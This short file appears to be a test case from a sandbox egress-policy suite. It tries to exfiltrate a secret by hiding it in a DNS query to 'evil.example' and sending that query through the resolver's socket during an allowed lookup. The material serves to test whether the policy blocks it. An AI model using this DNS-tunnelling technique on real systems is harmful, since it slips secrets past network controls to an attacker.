# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: during a lookup of an allowed name, another thread sends a file to the name server by
#   libc's socket
# proof: query
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import os

from attack import SECRET, attempt, beside_lookups, is_asking, question


@attempt
def ask():
    asked = question(SECRET + ".evil.example")
    with open("asked", "wb") as own:
        own.write(asked)
    own = os.open("asked", os.O_RDONLY)
    return beside_lookups(
        is_asking, lambda fd: os.sendfile(fd, own, 0, len(asked)) == len(asked), stays=True
    )
